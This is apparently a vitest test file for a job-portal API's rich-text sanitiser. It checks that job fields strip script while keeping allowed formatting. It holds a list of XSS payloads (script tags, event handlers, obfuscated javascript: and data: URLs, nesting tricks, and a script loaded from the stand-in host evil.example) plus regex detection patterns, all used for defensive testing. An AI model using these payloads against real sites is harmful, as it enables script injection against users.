import { eq } from "drizzle-orm";
import { beforeAll, describe, expect, it } from "vitest";
import { jobs } from "@/server/db/schema/jobs";
import { sanitizeRichText } from "@/server/lib/rich-text";
import { DEMO_OWNER_EMAIL, signIn } from "@/tests/api/auth-helpers";
import { requestJson, useTestApp } from "@/tests/api/test-app";

const ctx = useTestApp();
let owner: string;
let jobId: string;

beforeAll(async () => {
  owner = (await signIn(ctx.app, DEMO_OWNER_EMAIL)).token;
  const created = await requestJson(ctx.app, "POST", "/api/v1/job-portal/job", { token: owner, body: { role: "Rich text" } });
  jobId = created.body.result.id;
});

/** XSS payloads: each must come back without a way to run script, whatever field it is saved in. */
const XSS_CORPUS = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<img src=x onerror=alert(1)>`,
  `<body onload=alert(1)>`,
  `<p onclick="alert(1)" onmouseover="alert(2)">hover</p>`,
  `<a href="javascript:alert(1)">click</a>`,
  `<a href="JaVaScRiPt:alert(1)">click</a>`,
  `<a href=" javascript:alert(1)">click</a>`,
  `<a href="jav&#x09;ascript:alert(1)">click</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>`,
  `<a href="vbscript:msgbox(1)">vb</a>`,
  `<svg onload=alert(1)><circle r=10></circle></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">svg</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  `<style>body{background:url("javascript:alert(1)")}</style><p style="background:url(javascript:alert(1))">styled</p>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">`,
  `<form action="javascript:alert(1)"><button>go</button></form>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<p>ok</p><!--<img src=x onerror=alert(1)>-->`,
  `<a href="https://example.com" onfocus="alert(1)" autofocus>focus</a>`,
  `<details open ontoggle=alert(1)>`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<base href="javascript:alert(1)//">`,
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
];

const DANGEROUS = [/<script/i, /<iframe/i, /<svg/i, /<math/i, /<style/i, /<object/i, /<embed/i, /<form/i, /<img/i, /<meta/i, /<base/i, /\son\w+\s*=/i, /javascript:/i, /vbscript:/i, /data:/i, /style=/i, /srcdoc/i];

function assertInert(html: string) {
  for (const pattern of DANGEROUS) expect(html, `${pattern} survived in ${html}`).not.toMatch(pattern);
  const hrefs = [...html.matchAll(/href="([^"]*)"/g)].map((match) => match[1]!);
  for (const href of hrefs) expect(href).toMatch(/^(https?:|mailto:|tel:|#|\/)/);
}

describe("rich text fields are sanitised on write (spec 5 allow-list)", () => {
  it("holds at least 15 payloads", () => {
    expect(XSS_CORPUS.length).toBeGreaterThanOrEqual(15);
  });

  it.each(XSS_CORPUS.map((payload, index) => [index, payload] as const))("payload %i comes back inert in description, responsibilities and requirements", async (_index, payload) => {
    const response = await requestJson(ctx.app, "PATCH", `/api/v1/job-portal/job/${jobId}`, {
      token: owner,
      body: { description: payload, responsibilities: `<p>Do things</p>${payload}`, requirements: `${payload}<ul><li>Skill</li></ul>` },
    });
    expect(response.status, JSON.stringify(response.body)).toBe(200);
    for (const field of ["description", "responsibilities", "requirements"] as const) assertInert(response.body.result[field]);
    const [stored] = await ctx.database.db.select().from(jobs).where(eq(jobs.id, jobId));
    for (const field of ["description", "responsibilities", "requirements"] as const) assertInert(stored![field]);
    expect(response.body.result.responsibilities).toContain("<p>Do things</p>");
    expect(response.body.result.requirements).toContain("<ul><li>Skill</li></ul>");
  });

  it("keeps the allowed formatting and links with href, target, class and rel", async () => {
    const html =
      '<h3>About</h3><p>We <strong>build</strong> <b>things</b>, <em>carefully</em> <i>and</i> <u>well</u> <s>slowly</s>.</p><br>' +
      '<ol><li>One</li></ol><blockquote>Quote</blockquote><h4>More</h4>' +
      '<p><a href="https://example.com/jobs" class="link" rel="nofollow">site</a> <a href="mailto:hr@example.com">mail</a></p>';
    const response = await requestJson(ctx.app, "PATCH", `/api/v1/job-portal/job/${jobId}`, { token: owner, body: { description: html } });
    expect(response.status).toBe(200);
    expect(response.body.result.description).toBe(html);
  });

  it("adds rel=noopener noreferrer to links opening a new tab, and drops unknown targets", () => {
    expect(sanitizeRichText('<a href="https://example.com" target="_blank">x</a>')).toBe('<a href="https://example.com" target="_blank" rel="noopener noreferrer">x</a>');
    expect(sanitizeRichText('<a href="https://example.com" target="_blank" rel="opener">x</a>')).toBe('<a href="https://example.com" target="_blank" rel="noopener noreferrer">x</a>');
    expect(sanitizeRichText('<a href="https://example.com" target="somewhere">x</a>')).toBe('<a href="https://example.com">x</a>');
  });

  it("keeps the text of tags outside the list, and stores markup without text as empty", () => {
    expect(sanitizeRichText("<div><span>Plain words</span></div>")).toBe("Plain words");
    expect(sanitizeRichText("<p><br></p><p>&nbsp;</p>")).toBe("");
    expect(sanitizeRichText("<script>alert(1)</script>")).toBe("");
  });
});
